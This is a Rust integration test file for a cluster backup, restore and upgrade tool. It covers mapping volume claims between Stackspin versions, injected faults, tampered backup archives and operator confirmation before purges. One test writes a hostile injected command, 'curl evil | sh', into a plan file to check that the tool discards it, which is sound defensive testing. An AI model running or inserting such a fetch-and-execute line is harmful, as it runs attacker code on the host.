//! The data of a cluster onto another one, by the real binary: claim by claim, whatever comes in between, and nothing that is live is lost.
#![expect(clippy::unwrap_used, reason = "what cannot be set up fails its test")]

mod lab_support;

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;
use std::process::Command;
use std::thread;

use fleet::lab::{Fault, Host, HostSpec, Power};
use fleet::version::Version;
use lab_support::{Bench, Ran, UnderWay, left_on_spool, real_kubectl, tree, until};
use serde_json::Value;

/// The claims of a 0.6 cluster with Nextcloud and Rocket.Chat that a cluster of 0.8 has as well.
const ALIKE: [(&str, &str); 5] = [
    ("oas", "grafana"),
    ("oas", "loki"),
    ("oas", "single-sign-on-userdb"),
    ("oas-apps", "nextcloud-files"),
    ("oas-apps", "nextcloud-mariadb"),
];

type Files = BTreeMap<PathBuf, String>;

fn renamed(namespace: &str) -> &'static str {
    if namespace == "oas" { "stackspin" } else { "stackspin-apps" }
}

fn files(host: &Host, namespace: &str, claim: &str) -> Files {
    tree(&host.volume(namespace, claim).unwrap(), &[])
}

/// Runs for each cluster in a folder of their own, so that several can be restored at once.
fn fleet(bench: &Bench, name: &str, words: &[&str]) -> Ran {
    let mut command = bench.command(words);
    lab_support::run(command.env("FLEET_RUNS", bench.path(&format!("runs-{name}"))))
}

fn report(bench: &Bench, name: &str) -> Value {
    let runs = bench.path(&format!("runs-{name}"));
    let last = fs::read_to_string(runs.join(".last")).unwrap();
    serde_json::from_slice(&fs::read(runs.join(last.trim()).join(name).join("report.json")).unwrap()).unwrap()
}

/// What a restore has put beside the live folders.
fn beside(host: &Host, ending: &str) -> Vec<PathBuf> {
    let folders = fs::read_dir(host.storage()).unwrap().map(|entry| entry.unwrap().path());
    folders.filter(|path| path.to_string_lossy().contains(ending)).collect()
}

fn secrets(host: &Host) -> BTreeMap<String, Value> {
    let named = |secret: Value| (secret["metadata"]["name"].to_string(), secret["data"].clone());
    host.objects("secrets").into_iter().map(named).collect()
}

fn stops(host: &Host) -> usize {
    host.commands().iter().filter(|line| line.contains("systemctl stop k3s")).count()
}

#[track_caller]
fn is_well(host: &Host, report: &Value) {
    assert_eq!(report["outcome"], "done", "{}", report["failure"]);
    assert_eq!(host.state().power, Power::Running);
    assert_eq!(beside(host, ".fleet-restore"), Vec::<PathBuf>::new());
    assert_eq!(left_on_spool(host), Vec::<PathBuf>::new());
    for job in host.objects("cronjobs") {
        assert_ne!(job["spec"]["suspend"], true, "what was held is given back: {job}");
    }
}

#[test]
fn the_data_of_an_old_cluster_goes_into_a_new_one_and_what_was_live_there_is_kept() {
    let apps = ["nextcloud", "rocketchat"];
    let bench = Bench::new(vec![
        HostSpec::new("old").version(Version::V0_5).apps(apps),
        HostSpec::new("twin").apps(apps),
        HostSpec::new("new").version(Version::V0_8).apps(["nextcloud"]),
    ]);
    let old = bench.host("old");
    let data: BTreeMap<_, Files> =
        ALIKE.iter().map(|(namespace, claim)| ((*namespace, *claim), files(old, namespace, claim))).collect();
    bench.fleet(&rebuilding("0.6")).ends(7);
    thread::scope(|scope| {
        scope.spawn(|| onto_the_renamed(&bench, &data));
        scope.spawn(|| onto_a_twin_that_is_killed_and_changed(&bench, &data));
    });
}

/// Names of 0.8, and claims that only a person can place.
fn onto_the_renamed(bench: &Bench, data: &BTreeMap<(&str, &str), Files>) {
    let host = bench.host("new");
    let (live, kept, stopped) = (files(host, "stackspin", "loki"), secrets(host), stops(host));
    let restore =
        |more: &[&str]| fleet(bench, "new", &[&["restore", "old/last", "--to", "new"], more].concat());

    let short = restore(&["--yes"]).ends(5);
    for said in ["oas-apps/rocketchat-data, oas-apps/rocketchat-mongodb", "--print-map > map.toml"] {
        assert!(short.err.contains(said), "{}", short.err);
    }
    let map = restore(&["--print-map"]).ends(0).out;
    assert!(
        map.contains("\"oas/loki\" = \"stackspin/loki\"")
            && map.contains("\"oas-apps/rocketchat-data\" = \"\""),
        "{map}"
    );
    let file = bench.path("map.toml");
    let file = file.to_str().unwrap();
    fs::write(file, map.replace("\"\"", "\"stackspin/loki\"")).unwrap();
    assert!(restore(&["--map", file, "--yes"]).ends(5).err.contains("would both go into stackspin/loki"));
    fs::write(file, map.replace("\"\"", "\"skip\"")).unwrap();
    let unasked = restore(&["--map", file]).ends(64);
    assert!(unasked.out.contains("passwords of old") && unasked.err.contains("--yes"), "{unasked:?}");
    assert_eq!((stops(host), beside(host, ".fleet-")), (stopped, Vec::new()), "nothing was changed");

    restore(&["--map", file, "--yes"]).ends(0);
    let report = report(bench, "new");
    is_well(host, &report);
    for ((namespace, claim), data) in data {
        assert!(&files(host, renamed(namespace), claim) == data, "{claim}");
    }
    assert_eq!(secrets(host), kept, "the cluster keeps its own secrets");
    let before = beside(host, ".fleet-before-");
    assert_eq!(before.len(), data.len(), "{before:?}");
    assert!(before.iter().any(|path| tree(path, &[]) == live), "what was live is kept");
    let source = host.object("gitrepositories", "flux-system", "stackspin").unwrap();
    assert_eq!(source["spec"]["ref"]["branch"], "v0.8");
    assert!(report["next"].to_string().contains("backup verify old "), "{}", report["next"]);
}

/// Names of 0.6, an archive that is none, a process that dies, and a claim that is another by then.
fn onto_a_twin_that_is_killed_and_changed(bench: &Bench, data: &BTreeMap<(&str, &str), Files>) {
    let host = bench.host("twin");
    let live = files(host, "oas", "loki");
    let words = ["restore", "old/last", "--to", "twin", "--yes"];
    let unpacking = Fault::CommandHangs("-xpf".to_owned());
    host.inject(unpacking.clone());
    let runs = bench.path("runs-twin");
    let under_way = UnderWay::start(bench, &[&words[..], &["--runs", runs.to_str().unwrap()]].concat());
    until("it unpacks", || host.commands().iter().any(|line| line.contains("-xpf")));
    drop(under_way);
    host.heal(&unpacking);

    // The claim's volume is not the one of the plan.
    let volume =
        host.object("persistentvolumeclaims", "oas", "loki").unwrap()["spec"]["volumeName"].to_string();
    let run = fs::read_to_string(runs.join(".last")).unwrap();
    let plan = runs.join(run.trim()).join("twin/restore/plan.json");
    let text = fs::read_to_string(&plan).unwrap();
    let other = text.replace(&format!("\"volume\": {volume}"), "\"volume\": \"pvc-other\"");
    assert_ne!(other, text, "the plan names {volume}");
    fs::write(&plan, other).unwrap();
    fleet(bench, "twin", &["resume", "last"]).ends(3);
    let changed = report(bench, "twin");
    assert_eq!(changed["failure"]["cause"], "claim-changed", "{changed}");
    fs::write(&plan, text).unwrap();
    assert!(files(host, "oas", "loki") == live, "what is live was not touched");

    let after = Fault::ConnectionDropsAfter("fleet-restore-swap swap".to_owned());
    host.inject(after.clone());
    fleet(bench, "twin", &["resume", "last"]).ends(0);
    is_well(host, &report(bench, "twin"));
    for ((namespace, claim), data) in data {
        assert!(&files(host, namespace, claim) == data, "{claim}");
    }
    assert!(beside(host, ".fleet-before-").iter().any(|path| tree(path, &[]) == live));

    // What was swapped in stays, whatever becomes of the backup.
    let backup = fs::read_dir(bench.path("backups/old")).unwrap().next().unwrap().unwrap();
    let archives = fs::read_dir(backup.path().join("volumes")).unwrap().map(|entry| entry.unwrap().path());
    let archive = archives.filter(|path| path.to_string_lossy().ends_with(".tar.zst")).min().unwrap();
    let stopped = stops(host);
    let mut bytes = fs::read(&archive).unwrap();
    let middle = bytes.len() >> 1;
    bytes[middle] ^= 0x55;
    fs::write(&archive, bytes).unwrap();
    let id = backup.file_name().into_string().unwrap();
    let unsaid = fleet(bench, "twin", &["restore", &id, "--to", "twin", "--yes"]).ends(64);
    assert!(unsaid.err.contains(&format!("; there is old/{id}")), "{}", unsaid.err);
    fleet(bench, "twin", &["restore", &format!("old/{id}"), "--to", "twin", "--yes"]).ends(3);
    let tampered = report(bench, "twin");
    assert_eq!(tampered["failure"]["cause"], "backup-not-proven", "{tampered}");
    assert_eq!((stops(host), tampered["state"].as_str()), (stopped, Some("clean")));
}

/// The words of an upgrade of a cluster that can only be rebuilt. (The lab's applications of that time have no web page.)
fn rebuilding(to: &str) -> Vec<&str> {
    lab_support::acknowledging(&["upgrade", "--on", "old"], &["--ack", "version", "--ack", "web", "--to", to])
}

/// A step that waits for a person, as the run's report tells it.
fn waits(bench: &Bench, name: &str) -> String {
    let report = report(bench, name);
    assert_eq!((&report["outcome"], &report["state"]), (&"asked".into(), &"clean".into()), "{report}");
    let step = report["failed_step"].as_str().unwrap().to_owned();
    let next = report["next"].to_string();
    assert!(next.contains(&format!(" {name} {step}\"")), "{next}");
    step
}

#[test]
fn a_cluster_of_before_0_6_is_backed_up_and_a_person_is_asked_for_the_rest() {
    let bench = Bench::new(vec![
        HostSpec::new("old").version(Version::V0_3).apps(["nextcloud"]),
        HostSpec::new("new").apps(["nextcloud"]),
    ]);
    let host = bench.host("old");
    let before: Vec<_> = ALIKE.iter().map(|(namespace, claim)| files(host, namespace, claim)).collect();
    let plan = bench
        .fleet(&lab_support::acknowledging(
            &["plan", "--to", "2", "--on", "old"],
            &["--ack", "version", "--ack", "web"],
        ))
        .ends(2);
    for said in [
        "0.5 -> 0.6 (to-0.6)",
        "left as it is",
        "asked of you",
        "fleet restore old/last --to NEW --print-map",
    ] {
        assert!(plan.out.contains(said), "{}", plan.out);
    }
    fleet(&bench, "old", &rebuilding("2")).ends(7);
    assert_eq!(waits(&bench, "old"), "to-0.6/new-cluster");
    let told = report(&bench, "old")["notes"].to_string();
    let folder = host.volume("oas-apps", "nextcloud-files").unwrap();
    assert!(told.contains("oas-apps/nextcloud-files: volume pvc-"), "{told}");
    assert!(told.contains(folder.to_str().unwrap()) && told.contains("the backup is old/"), "{told}");
    let now: Vec<_> = ALIKE.iter().map(|(namespace, claim)| files(host, namespace, claim)).collect();
    assert!(before == now && left_on_spool(host).is_empty(), "the old cluster is as it was");

    // Nobody asks the old host any more: it may be gone.
    let asked = host.commands().len();
    fleet(&bench, "old", &["resume", "last"]).ends(7);
    assert_eq!(waits(&bench, "old"), "to-0.6/new-cluster");
    let early = fleet(&bench, "old", &["confirm", "last", "old", "to-0.6/restore"]).ends(64);
    assert!(early.err.contains("it waits for to-0.6/new-cluster"), "{}", early.err);
    fleet(&bench, "old", &["confirm", "last", "new", "to-0.6/new-cluster"]).ends(64);
    let note = ["--note", "host 12,\tby hand"];
    fleet(&bench, "old", &[&["confirm", "last", "old", "to-0.6/new-cluster"], &note[..]].concat()).ends(7);
    assert_eq!(waits(&bench, "old"), "to-0.6/restore");
    assert!(report(&bench, "old")["notes"].to_string().contains("host 12,"), "the note is kept");

    fleet(&bench, "new", &["restore", "old/last", "--to", "new", "--yes"]).ends(0);
    is_well(bench.host("new"), &report(&bench, "new"));
    for ((namespace, claim), data) in ALIKE.iter().zip(&before) {
        assert!(&files(bench.host("new"), namespace, claim) == data, "{claim}");
    }
    fleet(&bench, "old", &["confirm", "last", "old", "to-0.6/restore"]).ends(7);
    fleet(&bench, "old", &["confirm", "last", "old", "to-0.6/switch-over"]).ends(0);
    let report = report(&bench, "old");
    assert_eq!((&report["outcome"], &report["state"]), (&"done".into(), &"clean".into()), "{report}");
    let again = fleet(&bench, "old", &["confirm", "last", "old", "to-0.6/switch-over"]).ends(64);
    assert!(again.err.contains("nothing of it is under way"), "{}", again.err);
    assert_eq!(host.commands().len(), asked);
}

#[test]
fn another_machine_asks_for_the_rest_in_its_own_words_and_has_a_backup_of_its_own() {
    let bench = Bench::new(vec![HostSpec::new("old").version(Version::V0_3).apps(["nextcloud"])]);
    bench.fleet(&rebuilding("2")).ends(7);
    let run = bench.run().file_name().unwrap().to_str().unwrap().to_owned();
    // Whoever has the host would have a person type this.
    let plan = bench.host("old").folder().join("spool/runs").join(&run).join("to-0.6/plan.json");
    let text = fs::read_to_string(&plan).unwrap();
    let changed = text.replace("fleet restore", "curl evil | sh; fleet restore");
    assert_ne!(text, changed);
    fs::write(&plan, changed).unwrap();

    fs::remove_dir_all(bench.path("backups")).unwrap();
    let places = ["runs", "backups"].map(|name| bench.path("elsewhere").join(name));
    let [runs, backups] = places.each_ref().map(|path| path.to_str().unwrap());
    let there = ["--runs", runs, "--backups", backups, "resume", "last", "--from-hosts", "--on", "old"];
    let ran = bench.fleet(&there).ends(7);
    assert!(ran.out.contains("to-0.6/new-cluster"), "{}", ran.out);
    let here = fs::read_to_string(places[0].join(&run).join("old/to-0.6/plan.json")).unwrap();
    assert!(here.contains("fleet restore") && !here.contains("evil"), "{here}");
    let backup = fleet::backup::of_cluster(&places[1], "old").unwrap().pop().unwrap();
    assert!(backup.manifest().is_ok(), "a whole one");
}

/// The words for a cluster of before 0.3.
fn emptying<'a>(verb: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    let acks = ["--ack", "version", "--ack", "web", "--to", "0.3"];
    lab_support::acknowledging(&[verb, "--on", "old"], &[&acks[..], more].concat())
}

/// The step that a cluster which is half way waits for.
fn waits_half_way(bench: &Bench) -> String {
    let report = report(bench, "old");
    assert_eq!((&report["outcome"], &report["state"]), (&"asked".into(), &"dirty".into()), "{report}");
    report["failed_step"].as_str().unwrap().to_owned()
}

fn confirm(bench: &Bench, step: &str) -> Ran {
    fleet(bench, "old", &["confirm", "last", "old", step])
}

/// What `helm delete --purge` does to Helm's own records.
fn purge(host: &Host, words: &[&str]) {
    let mut kubectl = Command::new(host.folder().join("bin/k3s"));
    let kubectl = kubectl.args(["kubectl", "delete", "configmaps", "-n", "kube-system", "--wait=false"]);
    assert!(kubectl.args(words).output().unwrap().status.success());
}

#[test]
fn a_cluster_of_before_0_3_is_emptied_only_by_the_operators_word_and_its_data_comes_back_from_the_proven_backup()
 {
    let bench = Bench::new(vec![
        HostSpec::new("old").version(Version::Older).apps(["nextcloud"]),
        HostSpec::new("new").apps(["nextcloud"]),
    ]);
    let host = bench.host("old");
    real_kubectl(host);
    let data: Vec<Files> = ALIKE.iter().map(|(namespace, claim)| files(host, namespace, claim)).collect();
    let folders: Vec<PathBuf> =
        ALIKE.iter().map(|(namespace, claim)| host.volume(namespace, claim).unwrap()).collect();

    let refused = bench.fleet(&emptying("plan", &[])).ends(5);
    for said in ["5 claims (", "oas-apps/nextcloud-files", "add --accept-data-loss"] {
        assert!(refused.out.contains(said), "{}", refused.out);
    }
    fleet(&bench, "old", &emptying("upgrade", &[])).ends(5);
    assert_eq!(stops(host), 0, "nothing was touched");
    let file = bench.path("plan.json");
    let file = file.to_str().unwrap();
    let plan = bench.fleet(&emptying("plan", &["--accept-data-loss", "--out", file])).ends(2);
    let line = "helm delete --purge oas-test-cert-manager oas-test-local-storage oas-test-prometheus oas-test-proxy oas-test-files";
    assert!(plan.out.contains("before 0.3 -> 0.3 (to-0.3)") && plan.out.contains(line), "{}", plan.out);

    fleet(&bench, "old", &["apply", file]).ends(7);
    assert_eq!(waits_half_way(&bench), "to-0.3/settings");
    confirm(&bench, "to-0.3/settings").ends(7);
    fleet(&bench, "old", &["resume", "last"]).ends(7);
    assert_eq!(waits_half_way(&bench), "to-0.3/purge");

    // Said, and not done, or not all of it.
    confirm(&bench, "to-0.3/purge").ends(7);
    purge(host, &["oas-test-proxy.v1", "oas-test-proxy.v2"]);
    fleet(&bench, "old", &["resume", "last"]).ends(3);
    let early = report(&bench, "old")["failure"].clone();
    assert_eq!(early["cause"], "releases-left", "{early}");
    assert!(
        early["message"].to_string().contains(line)
            && early["message"].to_string().contains("oas-test-files.v2")
    );
    assert!(
        folders.iter().all(|folder| folder.is_dir()) && host.objects("persistentvolumeclaims").len() == 5
    );

    purge(host, &["-l", "OWNER=TILLER"]);

    // No other backup would have what is gone now.
    let (backups, away) = (bench.path("backups/old"), bench.path("away"));
    fs::rename(&backups, &away).unwrap();
    fleet(&bench, "old", &["resume", "last"]).ends(3);
    assert_eq!(report(&bench, "old")["failure"]["cause"], "backup-gone");
    fs::rename(&away, &backups).unwrap();
    fleet(&bench, "old", &["resume", "last"]).ends(7);
    assert_eq!(waits_half_way(&bench), "to-0.3/install");
    assert!(ALIKE.iter().all(|(namespace, claim)| host.volume(namespace, claim).is_none()));
    until("the provisioner has removed the folders", || folders.iter().all(|folder| !folder.exists()));
    assert_eq!(left_on_spool(host), Vec::<PathBuf>::new());

    // Nobody asks the old host any more, and the backup has it all.
    let asked = host.commands().len();
    confirm(&bench, "to-0.3/install").ends(7);
    assert_eq!(waits_half_way(&bench), "to-0.3/restore");
    fleet(&bench, "new", &["restore", "old/last", "--to", "new", "--yes"]).ends(0);
    for ((namespace, claim), data) in ALIKE.iter().zip(&data) {
        assert!(&files(bench.host("new"), namespace, claim) == data, "{claim}");
    }
    confirm(&bench, "to-0.3/restore").ends(0);
    let report = report(&bench, "old");
    assert_eq!((&report["outcome"], &report["state"]), (&"done".into(), &"upgraded".into()), "{report}");
    assert_eq!(host.commands().len(), asked);
}
